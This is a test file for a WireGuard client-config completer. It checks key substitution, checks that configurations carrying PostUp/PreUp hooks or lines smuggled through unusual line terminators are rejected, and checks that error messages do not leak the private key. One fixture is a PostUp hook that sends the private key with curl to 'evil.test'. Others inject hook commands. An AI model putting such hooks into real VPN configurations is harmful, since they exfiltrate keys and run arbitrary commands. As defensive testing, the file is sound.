import { generateKeyPair } from '@cvault/wg/keys'
import { PRIVATE_KEY_PLACEHOLDER, parseClientConfig, renderClientConfig, type ClientConfig } from '@cvault/wg/client-config'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { completeConfig } from './wg-config.ts'

const key = generateKeyPair()
const base: ClientConfig = {
  privateKey: null,
  addresses: ['10.8.0.2/32'],
  dns: ['1.1.1.1'],
  mtu: 1_420,
  peer: {
    publicKey: key.publicKey,
    endpoint: { host: 'vpn.example.test', port: 51_820 },
    allowedIps: ['0.0.0.0/0', '::/0'],
    persistentKeepaliveSeconds: 25,
  },
}

test('whatever the platform writes is taken, and completed by the key that was made here', () => {
  const shape = fc.record({
    dns: fc.constantFrom<string[]>([], ['1.1.1.1'], ['1.1.1.1', '2606:4700::1111']),
    mtu: fc.constantFrom(undefined, 1_280),
    presharedKey: fc.constantFrom(undefined, key.privateKey),
    host: fc.constantFrom('vpn.example.test', '192.0.2.1', '2001:db8::1'),
    keepalive: fc.constantFrom(0, 25),
  })
  fc.assert(
    fc.property(shape, ({ dns, mtu, presharedKey, host, keepalive }) => {
      const peer = { ...base.peer, endpoint: { host, port: 51_820 }, persistentKeepaliveSeconds: keepalive }
      const text = renderClientConfig({ ...base, dns, ...(mtu && { mtu }), peer: { ...peer, ...(presharedKey && { presharedKey }) } })
      expect(text).toContain(PRIVATE_KEY_PLACEHOLDER)
      expect(completeConfig(text, undefined)).toBe(text)
      const complete = completeConfig(text, key.privateKey)
      expect(complete).not.toContain(PRIVATE_KEY_PLACEHOLDER)
      expect(parseClientConfig(complete)).toEqual({ ...parseClientConfig(text), privateKey: key.privateKey })
    }),
  )
})

test('a configuration that could run anything, or holds anything unknown, is refused', () => {
  const text = renderClientConfig(base)
  const hooks = ['PreUp', 'PostUp', 'PreDown', 'PostDown', 'SaveConfig', 'Table', 'FwMark', 'Unknown']
  const spellings = hooks.flatMap((hook) => [
    `${hook} = touch /tmp/x`,
    `${hook}=touch /tmp/x`,
    `${hook.toLowerCase()} = x`,
    ` ${hook} = x`,
    `\t${hook}\t=\tx`,
  ])
  const lines = [...spellings, 'privatekey = x', '[Interface] PostUp = x', '[interface]', '[Peer', 'PrivateKey =', 'Endpoint', '; comment']
  for (const line of lines) {
    for (const evil of [text.replace('DNS = 1.1.1.1', line), `${text}${line}\n`, text.replace('DNS = 1.1.1.1', `DNS = 1.1.1.1\r${line}`)]) {
      expect(() => completeConfig(evil, key.privateKey), JSON.stringify(line)).toThrow(/was not used/)
    }
  }
  for (const end of ['\r', '\v', '\f', '\u001c', '\0', '\u0085', '\u2028', '\u2029'])
    for (const line of [`DNS = 1.1.1.1${end}PostUp = x`, `# harmless${end}PostUp = x`])
      expect(() => completeConfig(text.replace('DNS = 1.1.1.1', line), key.privateKey), JSON.stringify(line)).toThrow(/was not used/)
  expect(() => completeConfig(text + '\n'.repeat(100_000), undefined)).toThrow(/was not used/)
  expect(completeConfig(`# Adas Gerät: größer\n${text}`, undefined)).toContain('Gerät')
  for (const wrong of [null, 7, {}, 'PrivateKey = x']) expect(() => completeConfig(wrong as string, undefined)).toThrow(/was not used/)
})

test('what a refusal says holds no key', () => {
  const evil = `[Interface]\nPrivateKey = ${key.privateKey}\nPostUp = curl -d ${key.privateKey} https://evil.test\n`
  expect(() => completeConfig(evil, undefined)).toThrow(/PostUp/)
  expect(() => completeConfig(evil, undefined)).not.toThrow(new RegExp(key.privateKey.slice(0, 20).replaceAll('+', '\\+')))
})

test('the key is put in as it is, whatever replacement patterns it looks like', () => {
  expect(completeConfig(`[Interface]\nPrivateKey = ${PRIVATE_KEY_PLACEHOLDER}\n`, "$&$1$'")).toBe("[Interface]\nPrivateKey = $&$1$'\n")
})
